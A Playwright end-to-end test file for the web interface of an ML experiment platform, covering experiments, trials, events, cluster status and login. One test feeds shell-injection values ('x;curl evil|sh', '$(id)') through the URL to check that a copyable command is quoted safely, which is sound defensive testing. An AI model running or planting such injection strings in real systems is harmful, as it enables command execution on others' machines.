"""Each page's main story: what somebody sees, and that it follows what happens without a reload."""

import re
from datetime import UTC, datetime, timedelta, timezone
from urllib.parse import urlencode

from playwright.sync_api import Browser, Page, expect

from tests.page.conftest import LEARNING, Begin, Complaints, Site
from tests.support.eventually import eventually_sync
from tests.support.platform import RunningPlatform


def test_the_list_shows_an_experiment_with_state_progress_and_best_metric(page: Page, finished: str) -> None:
    page.goto("/")
    row = page.locator("tbody tr", has_text=finished)
    expect(row).to_contain_text("learning")
    expect(row).to_contain_text("completed")
    expect(row).to_contain_text("100 %")
    expect(row).to_contain_text("3 / 3")
    expect(row).to_contain_text(re.compile(r"0\.\d+ accuracy"))


def test_an_experiment_that_is_submitted_elsewhere_appears_and_runs_without_a_reload(page: Page, site: Site) -> None:
    page.goto("/")
    expect(page.locator("[data-connection=open]")).to_be_visible()
    page.evaluate("window.sameDocument = true")
    experiment_id = site.submit("appearing", LEARNING)
    row = page.locator("tbody tr", has_text=experiment_id)
    expect(row).to_be_visible()
    row.get_by_role("link", name="appearing").click()
    expect(page.locator("h1 [data-state=COMPLETED]")).to_be_visible(timeout=120_000)
    expect(page.get_by_role("region", name="Trials").locator("tbody tr")).to_have_count(3)
    assert page.evaluate("window.sameDocument") is True


def test_an_experiment_shows_its_chart_its_trials_and_its_best(page: Page, finished: str) -> None:
    page.goto(f"/#/experiments/{finished}")
    expect(page.locator(".plot canvas")).to_be_visible()
    expect(page.locator(".plot")).to_have_attribute("aria-label", re.compile("3 trials; best 0"))
    trials = page.get_by_role("region", name="Trials")
    expect(trials.locator("tbody tr")).to_have_count(3)
    expect(trials.locator("thead")).to_contain_text("lr")
    expect(trials.locator("thead")).not_to_contain_text("width")
    expect(page.get_by_text("width = 64")).to_be_visible()
    expect(trials.locator(".best-row")).to_have_count(1)
    expect(page.get_by_text(re.compile("tm checkpoint download"))).to_be_visible()


def test_the_trial_table_sorts_by_any_column(page: Page, finished: str) -> None:
    page.goto(f"/#/experiments/{finished}")
    trials = page.get_by_role("region", name="Trials")
    expect(trials.locator("tbody tr")).to_have_count(3)
    trials.get_by_role("button", name="accuracy").click()
    expect(trials.locator("th", has_text="accuracy")).to_have_attribute("aria-sort", "descending")
    expect(trials.locator("tbody tr").first).to_have_class("best-row")


def test_another_metric_can_be_charted(page: Page, finished: str) -> None:
    page.goto(f"/#/experiments/{finished}")
    page.get_by_label("Metric to draw").select_option("training loss")
    expect(page.locator(".plot")).to_have_attribute("aria-label", re.compile("^training loss.* 3 trials"))


def test_cancelling_asks_back_shows_the_command_and_is_followed(page: Page, site: Site, begin: Begin) -> None:
    experiment_id = begin("endless")
    page.goto(f"/#/experiments/{experiment_id}")
    page.get_by_role("button", name="Cancel…").click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text(f"tm cancel {experiment_id}")
    dialog.get_by_role("button", name="Cancel", exact=True).click()
    expect(page.locator("h1 [data-state=CANCELED]")).to_be_visible()
    expect(page.get_by_role("button", name="Cancel…")).to_have_count(0)
    assert site.client.experiment(experiment_id)["state"] == "CANCELED"


def test_a_trial_shows_its_hyperparameters_charts_checkpoint_and_output(page: Page, finished: str) -> None:
    page.goto(f"/#/trials/{finished}-1")
    expect(page.locator("h1")).to_contain_text("Trial 1")
    expect(page.locator(".pairs")).to_contain_text("lr")
    expect(page.locator(".small-chart canvas")).to_have_count(2)
    expect(page.get_by_role("region", name="Attempts")).to_contain_text("completed")
    archive = page.get_by_role("region", name="Checkpoints").get_by_role(
        "link", name=re.compile("archive of the checkpoint")
    )
    expect(archive).to_have_count(1)
    with page.expect_download() as download:
        archive.click()
    assert download.value.suggested_filename.endswith(".tar")
    expect(page.get_by_role("log")).to_contain_text("learning begins")
    expect(page.get_by_text(re.compile(r"\d+ lines · complete"))).to_be_visible()


def test_a_trial_tells_why_it_came_about(page: Page, finished: str) -> None:
    page.goto(f"/#/trials/{finished}-1")
    timeline = page.locator(".timeline").first
    for name in ("ExperimentSubmitted", "TrialRequested", "GPUAllocated", "TrialStarted", "TrialExited", "TrialClosed"):
        expect(timeline.get_by_role("link", name=name).first).to_be_visible()
    timeline.get_by_role("link", name="GPUAllocated").first.click()
    expect(page.locator("h1")).to_have_text("Events")
    expect(page.locator("pre").first).to_contain_text(f'"trial_id": "{finished}-1"')


def test_a_trial_tells_what_each_decision_went_by(page: Page, finished: str) -> None:
    page.goto(f"/#/trials/{finished}-1")
    why = page.get_by_role("region", name="Why")
    expect(why.locator(".reason")).to_contain_text("It is COMPLETED")
    origin = why.locator(".answer", has_text="Why these hyperparameters")
    expect(origin).to_contain_text("drawn at random, draw 1 of 3")
    placement = why.locator(".answer", has_text="Why there, attempt 1")
    placement.get_by_text("what it went by").click()
    expect(placement.locator("pre")).to_contain_text('"rule": "one agent"')


def test_an_experiment_tells_where_it_stands_and_why_it_is_over(page: Page, crashed: str) -> None:
    page.goto(f"/#/experiments/{crashed}/why")
    why = page.get_by_role("region", name="Why")
    expect(why.locator(".reason")).to_contain_text("It is FAILED: 0 trials completed, 3 failed")
    expect(why.locator(".answer", has_text="3 trials FAILED")).to_contain_text("ZeroDivisionError")
    expect(why.locator(".answer", has_text="Why it is over")).to_be_visible()
    expect(why.locator(".answer", has_text="Where it came from")).to_contain_text("by admin")


def test_an_agent_tells_what_it_ran_and_for_whom(page: Page, finished: str) -> None:
    page.goto("/#/cluster")
    page.locator(".agent").first.get_by_role("heading").get_by_role("link").click()
    expect(page.locator("h1")).to_contain_text("Agent local")
    why = page.get_by_role("region", name="Why")
    expect(why.locator(".reason")).to_contain_text("It is up")
    expect(why.locator(".answer", has_text="When it joined")).to_contain_text("agent local joined pool default")
    expect(why.locator(".answer", has_text="What it ran before").first).to_contain_text("of admin, attempt")


def test_the_queue_tells_what_a_trial_waits_for(page: Page, site: Site, begin: Begin) -> None:
    """Three trials on two slots: one waits, on the cluster's page and on its own, until it has its turn."""
    experiment_id = begin("queued")
    page.goto("/#/cluster")
    last = page.get_by_role("link", name="trial 3", exact=True)  # at first all three wait
    row = page.get_by_role("table", name="Queue").locator("tr", has_text="queued").filter(has=last)
    expect(row).to_contain_text("needs 1 slot; 0 of 2 are free")
    row.get_by_role("link", name="trial 3").click()
    why = page.get_by_role("region", name="Why")
    expect(why.locator(".answer", has_text="Why it waits")).to_contain_text("in the queue of pool default")
    expect(why.locator(".answer", has_text="When it will start")).to_be_visible()
    site.client.cancel(experiment_id)
    expect(why.locator(".reason")).to_contain_text("It is CANCELED")


def test_a_crashed_trial_shows_its_traceback_first_and_in_its_output(page: Page, crashed: str) -> None:
    page.goto(f"/#/experiments/{crashed}")
    expect(page.locator("h1 [data-state=FAILED]")).to_be_visible()
    page.get_by_role("region", name="Trials").get_by_role("link", name="1", exact=True).click()
    alert = page.get_by_role("alert", name="This trial failed")
    expect(alert).to_contain_text("Traceback (most recent call last)")
    expect(alert).to_contain_text("ZeroDivisionError")
    expect(page.get_by_role("log")).to_contain_text("ZeroDivisionError")


def test_events_are_filtered_and_open_to_their_fields_and_causes(page: Page, finished: str) -> None:
    page.goto("/#/events")
    expect(page.get_by_role("group", name="Events").locator("tr.event").first).to_be_visible()
    page.get_by_label("Experiment").fill(finished)
    page.get_by_label("Event", exact=True).fill("TrialRequested")
    page.get_by_role("button", name="Filter").click()
    rows = page.get_by_role("group", name="Events").locator("tr.event")
    expect(rows).to_have_count(3)
    rows.first.get_by_role("button").click()
    detail = page.locator("tr.detail")
    expect(detail).to_contain_text(f'"experiment_id": "{finished}"')
    detail.get_by_role("link", name=re.compile(r"event \d+")).first.click()
    cause = page.locator("pre", has_text='"name": "ExperimentSubmitted"')
    expect(cause).to_have_count(1)
    expect(cause).to_be_in_viewport()


def test_new_events_appear_by_themselves_unless_paused(page: Page, site: Site) -> None:
    page.goto("/#/events?name=ExperimentSubmitted")
    expect(page.locator("[data-connection=open]")).to_be_visible()
    expect(page.get_by_text("This is the beginning of the log.")).to_be_visible()
    first = site.submit("watched", LEARNING)
    events = page.get_by_role("group", name="Events")
    expect(events.locator("tr.event", has_text=first)).to_have_count(1)
    page.get_by_role("button", name="Pause").click()
    second = site.submit("held-back", LEARNING)
    expect(page.get_by_text("paused, 1 new")).to_be_visible()
    expect(events.locator("tr.event", has_text=second)).to_have_count(0)
    page.get_by_role("button", name="Go on").click()
    expect(events.locator("tr.event", has_text=second)).to_have_count(1)


def test_a_command_to_copy_is_quoted_for_the_shell_whatever_the_address_says(
    page: Page, complaints: Complaints
) -> None:
    complaints.expected = "400"
    page.goto("/#/events?name=x;curl%20evil|sh&experiment=k3f9x2ab&writer='$(id)")
    expect(page.locator(".command code", has_text="tm tap")).to_have_text(
        r"""tm tap --experiment k3f9x2ab --name 'x;curl evil|sh' --writer ''\''$(id)'"""
    )


def test_new_events_appear_since_a_time_of_any_offset(page: Page, site: Site) -> None:
    since = (datetime.now(UTC) - timedelta(minutes=1)).astimezone(timezone(timedelta(hours=14)))
    page.goto(f"/#/events?{urlencode({'name': 'ExperimentSubmitted', 'since': since.isoformat()})}")
    expect(page.locator("[data-connection=open]")).to_be_visible()
    expect(page.get_by_text("This is the beginning of the log.")).to_be_visible()
    later = site.submit("since-an-offset", LEARNING)
    events = page.get_by_role("group", name="Events")
    expect(events.locator("tr.event", has_text=later)).to_have_count(1)


def test_the_cluster_shows_slots_queue_and_services(page: Page) -> None:
    page.goto("/#/cluster")
    expect(page.locator(".agent .slot").first).to_be_visible()
    expect(page.get_by_text(re.compile(r"of \d+ slots in use"))).to_be_visible()
    services = page.get_by_role("region", name="Services")
    for name in ("gateway", "scheduler", "searcher", "tracker", "worker"):
        expect(services.locator("tr", has_text=name).first).to_contain_text("answers")


def test_the_cluster_shows_what_was_set_aside(page: Page, site: Site, own_platform: RunningPlatform) -> None:
    seq = own_platform.publish("worker-local", "metrics.local.nobody-7", b"no metrics")
    eventually_sync(lambda: seq in [item["seq"] for item in site.client.set_aside(20)["items"]])
    page.goto("/#/cluster")
    row = page.get_by_role("region", name="Services").locator("tr", has_text="metrics.local.nobody-7")
    expect(row).to_contain_text(f"METRICS {seq}")
    expect(row).to_contain_text("10 B")
    expect(page.get_by_text("They hold nothing up.")).to_be_visible()


def test_an_unknown_experiment_is_said_to_be_unknown(page: Page, complaints: Complaints) -> None:
    complaints.expected = "404"
    page.goto("/#/experiments/k0000000")
    expect(page.get_by_role("alert")).to_contain_text("There is no such experiment")


def test_the_keyboard_reaches_an_experiment_from_the_list(page: Page, finished: str) -> None:
    page.goto("/")
    link = page.locator("tbody tr", has_text=finished).get_by_role("link")
    link.focus()
    page.keyboard.press("Enter")
    expect(page.locator("h1")).to_contain_text("learning")
    assert page.evaluate("location.hash") == f"#/experiments/{finished}"


def test_a_stranger_logs_in_and_out(browser: Browser, page_url: str, site: Site, finished: str) -> None:
    site.client.access.create_user("hedy", full_name="Hedy", is_service=False)
    site.client.access.set_password("hedy", "correct horse battery")
    site.client.access.grant("hedy", "viewer", None)
    context = browser.new_context(base_url=page_url)
    page = context.new_page()
    page.goto(f"/#/experiments/{finished}")
    page.get_by_label("User").fill("hedy")
    page.get_by_label("Password").fill("wrong")
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("alert")).to_contain_text("wrong user or password")
    page.get_by_label("Password").fill("correct horse battery")
    page.keyboard.press("Enter")
    expect(page.locator("h1")).to_contain_text("learning")
    page.get_by_role("button", name="Log out").click()
    expect(page.get_by_label("User")).to_be_visible()
    address = f"/#/login/{site.client.access.login_code()['code']}/experiments/{finished}"
    page.goto(address)
    page.reload()  # the same page with another hash is no navigation
    expect(page.locator("h1")).to_contain_text("learning")
    assert page.evaluate("location.hash") == f"#/experiments/{finished}"
    context.close()


def test_a_lost_server_is_said_and_the_page_catches_up(page: Page, complaints: Complaints, site: Site) -> None:
    complaints.expected = "ERR_INTERNET_DISCONNECTED"
    page.goto("/")
    expect(page.locator("[data-connection=open]")).to_be_visible()
    page.context.set_offline(True)
    page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")  # the open stream outlives "offline"
    expect(page.get_by_role("alert")).to_contain_text("reconnecting")
    experiment_id = site.submit("missed", LEARNING)
    page.context.set_offline(False)
    expect(page.locator("tbody tr", has_text=experiment_id)).to_be_visible()
    expect(page.get_by_role("alert")).to_have_count(0)
